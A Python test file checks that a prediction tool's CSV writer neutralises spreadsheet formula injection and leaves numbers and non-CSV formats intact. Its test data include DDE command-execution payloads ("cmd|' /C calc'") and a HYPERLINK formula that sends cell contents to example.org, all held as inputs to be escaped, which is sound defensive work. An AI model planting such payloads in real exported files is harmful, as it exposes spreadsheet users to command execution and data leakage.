"""Files that `abstain predict` writes: no cell is run as a formula, and a killed writer's draft does not stay."""

import csv
import json
import shutil

import numpy as np
import pytest
from pyarrow import parquet

from models.bundle import load
from models.errors import DataError
from models.rowfiles import read_table
from service import offline
from tests.test_hostile_bundles import sign
from training.config import DataConfig
from training.rows import text_codes
from training.sources import read_source

FORMULAS = [f"{start}SUM(A1:A9)" for start in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")]
TRICKY = [
    '=HYPERLINK("http://example.org?"&A1,"x")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "-",
    "-1e",
    "-1|=1",
    "@a,b",
    "=a\nb",
    "\r\n=1",
    '="',
    "=",
    "-١",
]
HARMLESS = [
    "",
    "a",
    "a=b",
    "1-1",
    " a",
    "'=a",
    '"=a"',
    "a\n=b",
    "-1",
    "+1",
    "-1.5",
    "-.5e-3",
    "+2.",
    "-1|1",
    "-1|-2|+3",
]


def write(path, **columns):
    """An answers' file of these columns."""
    offline._write(columns, path)


def cells(path):
    """The rows of a CSV as a spreadsheet takes them apart, the header first."""
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("text", FORMULAS + TRICKY)
def test_text_that_begins_as_a_formula_gets_an_apostrophe(tmp_path, text):
    """As a label, as the first word of a list, and as a column's name; quotes and line breaks stay within the cell."""
    out = tmp_path / "out.csv"
    write(out, label=[text, "plain"], prediction_set=[[text, "plain"], []], **{text: [1, 2]})
    assert cells(out) == [
        ["label", "prediction_set", f"'{text}"],
        [f"'{text}", f"'{text}|plain", "1"],
        ["plain", "", "2"],
    ]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(tmp_path, text):
    """Also names of classes that are numbers."""
    write(tmp_path / "out.csv", label=[text])
    assert cells(tmp_path / "out.csv")[1:] == [[text]]


def test_numbers_stay_numbers(tmp_path):
    """A negative number is not text, whatever its type, and true and false are neither."""
    write(tmp_path / "out.csv", mean=[-1.5, 2.0], index=[-3, 4], tiny=[-1e-30, -0.0], reject=[True, False])
    assert cells(tmp_path / "out.csv")[1:] == [["-1.5", "-3", "-1e-30", "true"], ["2", "4", "-0", "false"]]


def test_other_kinds_of_file_hold_the_names_unchanged(tmp_path):
    """They are not opened by spreadsheets."""
    for ending in (".parquet", ".jsonl", ".npz"):
        write(tmp_path / f"out{ending}", label=FORMULAS)
    assert parquet.read_table(tmp_path / "out.parquet").column("label").to_pylist() == FORMULAS
    lines = (tmp_path / "out.jsonl").read_text("utf-8").split("\n")[:-1]
    assert [json.loads(line)["label"] for line in lines] == FORMULAS
    assert np.load(tmp_path / "out.npz")["label"].tolist() == FORMULAS


def test_the_command_writes_no_formula(run, store, tmp_path):
    """Through the whole path: a model whose classes are all named like formulas."""
    folder = tmp_path / "store" / "digits" / "1"
    shutil.copytree(store / "digits" / "1", folder)
    sign(folder, model__class_names=[f"=cmd|'/C {place}'!A0" for place in range(10)])
    names = load(folder).manifest.model.class_names
    np.savez(tmp_path / "rows.npz", x=np.eye(8)[None] * np.arange(20)[:, None, None])
    out = tmp_path / "answers.csv"
    code, _, err = run(
        "predict", "digits", "--data", tmp_path / "rows.npz", "--out", out, "--store", tmp_path / "store"
    )
    assert code == 0, err
    header, *rows = cells(out)
    assert len(rows) == 20
    assert {row[header.index("label")] for row in rows} <= {f"'{name}" for name in names}
    assert not [cell for row in (header, *rows) for cell in row if cell.startswith(tuple("=@+\t\r"))]


def test_a_label_that_is_read_again_keeps_its_apostrophe(tmp_path):
    """It is another class to `fit`; `evaluate` refuses it by row, since the model does not have it."""
    out = tmp_path / "out.csv"
    write(out, label=["=a", "b"] * 4, entropy=[0.5, 1.0] * 4)
    assert read_table(out).column("label").to_pylist()[:2] == ["'=a", "b"]
    config = DataConfig(target="label")
    assert read_source(str(out), config, classify=True).class_names == ("'=a", "b")
    with pytest.raises(DataError, match=r"row 0: expected one of =a, b, found \"'=a\""):
        text_codes(["'=a"], {"=a": 0, "b": 1}, str(out))
